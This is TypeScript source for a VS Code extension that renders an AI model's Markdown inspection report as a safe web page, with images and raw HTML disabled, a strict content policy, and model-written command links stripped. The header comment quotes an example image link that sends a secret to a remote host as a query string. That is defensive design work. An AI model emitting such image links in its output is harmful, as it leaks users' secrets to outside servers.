/**
 * An inspection report as a web page that loads nothing remote and runs no script. The report is
 * a model's Markdown: VS Code's Markdown preview would load its `https:` images
 * (`![](https://host/?d=secret)` leaks from a read-only run), so Zero renders it itself: raw HTML
 * is shown as text, images are not rendered at all, and the page's CSP allows nothing but the
 * extension's stylesheet. Links are web links, or finding locations inside the workspace, which
 * become `command:` links to the one command the page may run (reportLinks.ts); any other link,
 * `command:` links a model wrote included, stays text.
 */
import MarkdownIt from 'markdown-it';
import { locationCommandUri, reportLocation } from './reportLinks';

/** Lines around zero's own answer in a saved report (inspectionReport.ts writes them). */
export const ANSWER_START = '<!-- zero:answer -->';
/** The same, when the findings above already list what the answer says: it is folded away. */
export const ANSWER_START_FOLDED = '<!-- zero:answer folded -->';
export const ANSWER_END = '<!-- zero:answer-end -->';

const WEB_LINK = /^(https?:|mailto:)/i;

function escapeHtml(value: string): string {
	return value
		.replace(/&/g, '&amp;')
		.replace(/"/g, '&quot;')
		.replace(/</g, '&lt;')
		.replace(/>/g, '&gt;');
}

function reportMarkdown(workspaceFolders: readonly string[]): InstanceType<typeof MarkdownIt> {
	const markdown = new MarkdownIt({ html: false, linkify: true, typographer: false }).disable([
		'image',
	]);
	// Every link is parsed, then the ones the report may not hold lose their link but keep their
	// words (markdown-it would otherwise show a refused link as its raw Markdown).
	markdown.validateLink = () => true;
	const allowed = (href: string) =>
		WEB_LINK.test(href.trim()) || reportLocation(href, workspaceFolders) !== undefined;
	markdown.core.ruler.push('report_links', (state) => {
		for (const block of state.tokens) {
			if (block.type !== 'inline' || !block.children) {
				continue;
			}
			const dropped: boolean[] = [];
			block.children = block.children.filter((token) => {
				if (token.type === 'link_open') {
					const drop = !allowed(String(token.attrGet('href') ?? ''));
					dropped.push(drop);
					return !drop;
				}
				if (token.type === 'link_close') {
					return !dropped.pop();
				}
				return true;
			});
		}
	});
	const renderLinkOpen =
		markdown.renderer.rules.link_open ??
		((tokens, index, options, _env, self) => self.renderToken(tokens, index, options));
	markdown.renderer.rules.link_open = (tokens, index, options, env, self) => {
		const token = tokens[index];
		const location = reportLocation(String(token.attrGet('href') ?? ''), workspaceFolders);
		if (location) {
			token.attrSet('href', locationCommandUri(location));
			token.attrSet('title', `Open ${location.file} at line ${location.line}`);
		}
		return renderLinkOpen(tokens, index, options, env, self);
	};
	return markdown;
}

/** The report's parts: before zero's answer, the answer (folded or not), after it. */
function splitReport(report: string): {
	before: string;
	answer?: string;
	folded: boolean;
	after: string;
} {
	const lines = report.split('\n');
	const start = lines.findIndex((line) => line === ANSWER_START || line === ANSWER_START_FOLDED);
	const end = lines.lastIndexOf(ANSWER_END);
	if (start < 0 || end < start) {
		return { before: report, folded: false, after: '' };
	}
	return {
		before: lines.slice(0, start).join('\n'),
		answer: lines.slice(start + 1, end).join('\n'),
		folded: lines[start] === ANSWER_START_FOLDED,
		after: lines.slice(end + 1).join('\n'),
	};
}

/**
 * The run's own facts (folder, model, zero's command line with its session id) after the answer:
 * folded under "Details", closed, so the report reads as findings first, in the user's words.
 */
function detailsHtml(after: string, markdown: ReturnType<typeof reportMarkdown>): string {
	const text = after.trim();
	const heading = /^## Details\n/.exec(text);
	if (!heading) {
		return text ? markdown.render(text) : '';
	}
	return `<details class="run-details">\n<summary>Details</summary>\n${markdown.render(text.slice(heading[0].length))}</details>\n`;
}

export function renderReportHtml(
	report: string,
	cspSource: string,
	styleUri: string,
	workspaceFolders: readonly string[] = [],
	title = 'Zero inspection report',
): string {
	const csp = `default-src 'none'; style-src ${cspSource}`;
	const markdown = reportMarkdown(workspaceFolders);
	const parts = splitReport(report);
	const answer =
		parts.answer === undefined
			? ''
			: parts.folded
				? `<details class="answer">\n<summary>zero's full answer</summary>\n${markdown.render(parts.answer)}</details>\n`
				: `<section class="answer" aria-label="zero's answer">\n${markdown.render(parts.answer)}</section>\n`;
	return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${escapeHtml(csp)}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="stylesheet" href="${escapeHtml(styleUri)}">
<title>${escapeHtml(title)}</title>
</head>
<body>
<main class="report">
${markdown.render(parts.before)}${answer}${detailsHtml(parts.after, markdown)}</main>
</body>
</html>`;
}
